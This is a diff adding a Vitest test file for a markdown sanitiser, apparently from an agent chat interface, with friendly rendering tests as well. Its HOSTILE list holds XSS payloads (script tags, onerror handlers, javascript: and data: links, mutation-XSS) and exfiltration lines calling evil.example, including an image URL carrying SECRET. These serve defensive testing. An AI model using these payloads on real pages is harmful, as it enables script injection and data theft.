@@ -1,0 +1,111 @@
+// @vitest-environment jsdom
+
+import { describe, expect, test } from "vitest";
+import { dressCode } from "../src/components/markdown/code";
+import { parseBlocks } from "../src/components/markdown/parse";
+import { sanitise } from "../src/components/markdown/sanitise";
+
+function render(markdown: string): HTMLElement {
+  const page = document.createElement("div");
+  const fileUrl = (path: string) => `/api/agents/a/files/${path.replace(/^\/+/, "")}`;
+  for (const { html } of parseBlocks(markdown)) page.append(sanitise(html, { fileUrl }));
+  return page;
+}
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "![](https://evil.example/?q=SECRET)",
+  "![](//evil.example/pixel.png)",
+  '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
+  '<svg><image href="https://evil.example/x.png"/><script>alert(1)</script></svg>',
+  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
+  '<div style="background:url(https://evil.example/x)">styled</div>',
+  "<style>body { background: url(https://evil.example) }</style>",
+  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
+  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt&colon;alert(1))",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](vbscript:msgbox)",
+  '<a href="https://ok.example" ping="https://evil.example" onclick="alert(1)">link</a>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<p id="app" name="location">clobber</p>',
+  '<div class="backdrop shell">costume</div>',
+  "```html\n<img src=x onerror=alert(1)>\n```",
+  "![x](javascript:alert(1))",
+  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+];
+
+const FORBIDDEN = new Set(
+  "script style form input button svg video audio iframe object embed link meta base math".split(
+    " ",
+  ),
+);
+
+describe("a hostile text", () => {
+  test.each(HOSTILE)("does nothing: %s", (markdown) => {
+    for (const element of render(markdown).querySelectorAll("*")) {
+      expect(FORBIDDEN).not.toContain(element.localName);
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^style$|^id$|^name$|^ping$|^srcset$|^poster$/);
+        if (name === "src") expect(value).not.toMatch(/^(?:https?:)?\/\/|^javascript:|svg/i);
+        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
+        if (name === "class") {
+          expect(value).toMatch(/^(?:remote-image|table-scroll|task|language-\S+)$/);
+        }
+      }
+    }
+  });
+
+  test("keeps its words", () => {
+    expect(render("[click](javascript:alert(1))").textContent).toContain("click");
+    const code = render("```html\n<img src=x>\n```").querySelector("code");
+    expect(code?.textContent).toContain("<img src=x>");
+  });
+});
+
+describe("a friendly text", () => {
+  test("has links that leak nothing", () => {
+    const link = render("[docs](https://ok.example/a?b=c)").querySelector("a");
+    expect(link?.getAttribute("href")).toBe("https://ok.example/a?b=c");
+    expect(link?.rel).toBe("noopener noreferrer");
+    expect(link?.target).toBe("_blank");
+  });
+
+  test("offers pictures of other sites as links", () => {
+    const page = render("![A graph](https://graphs.example/x.png)");
+    expect(page.querySelector("img")).toBeNull();
+    const box = page.querySelector("a.remote-image");
+    expect(box?.textContent).toContain("A graph");
+    expect(box?.textContent).toContain("graphs.example");
+  });
+
+  test("shows pictures of its own", () => {
+    expect(render("![x](/attachments/x.png)").querySelector("img")?.getAttribute("src")).toBe(
+      "/api/agents/a/files/attachments/x.png",
+    );
+    expect(render("![x](data:image/png;base64,AAAA)").querySelector("img")).not.toBeNull();
+  });
+
+  test("has tables, tasks and code with its language", () => {
+    const page = render("| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n\n```py\nx = 1\n```");
+    expect(page.querySelector(".table-scroll th")?.getAttribute("align")).toBe("right");
+    expect(page.querySelector("li.task")?.textContent).toContain("☑");
+    dressCode(page, false);
+    expect(page.querySelector(".code-bar")?.textContent).toContain("py");
+    expect(page.querySelector(".code-bar button")?.textContent).toBe("Copy");
+  });
+
+  test("is cut into blocks that stay as they are while the text grows", () => {
+    const early = parseBlocks("First.\n\nSecond");
+    const late = parseBlocks("First.\n\nSecond one.\n\n- third");
+    expect(late[0]?.html).toEqual(early[0]?.html);
+    expect(late).toHaveLength(3);
+  });
+});
